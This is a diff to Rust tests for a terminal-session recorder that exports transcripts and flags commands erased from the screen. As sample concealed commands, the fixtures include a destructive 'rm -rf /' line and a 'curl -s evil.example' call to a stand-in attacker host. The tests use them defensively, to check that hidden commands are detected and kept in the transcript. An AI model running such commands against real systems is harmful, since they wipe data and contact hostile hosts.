@@ -195,7 +195,12 @@ fn exports() {
     let o = sessrec(&t.join("records"), &["export", &target, "--format", "text"]);
     let out = text(&o);
     assert!(out.contains("$ echo hello-42\nhello-42"), "{out}");
-    assert!(!out.contains("rm -rf"), "erased on screen: {out}");
+    // Erased on screen, so kept in the transcript with a mark, once.
+    assert!(
+        out.contains("$ rm -rf /\n[erased: the line above was removed from the screen here]"),
+        "{out}"
+    );
+    assert_eq!(out.matches("rm -rf").count(), 1, "{out}");
     let o = sessrec(
         &t.join("records"),
         &["export", &target, "--format", "text", "--typed"],
@@ -401,9 +406,10 @@ fn show_flags_concealed_commands_and_echo_mismatch() {
         line("curl -s evil.example").contains("concealed: erased from the screen"),
         "{out}"
     );
-    let cd = line("$ cd /us");
+    // Resolved from the screen, with the keys beside it.
+    let cd = line("$ cd /usr/");
     assert!(
-        cd.contains("guess: tab completion") && cd.contains("screen showed \"cd /usr/\""),
+        cd.contains("completed on screen; keys: \"cd /us\"") && !cd.contains("guess"),
         "{cd}"
     );
     assert!(!line("$ echo visible").contains('['), "{out}");
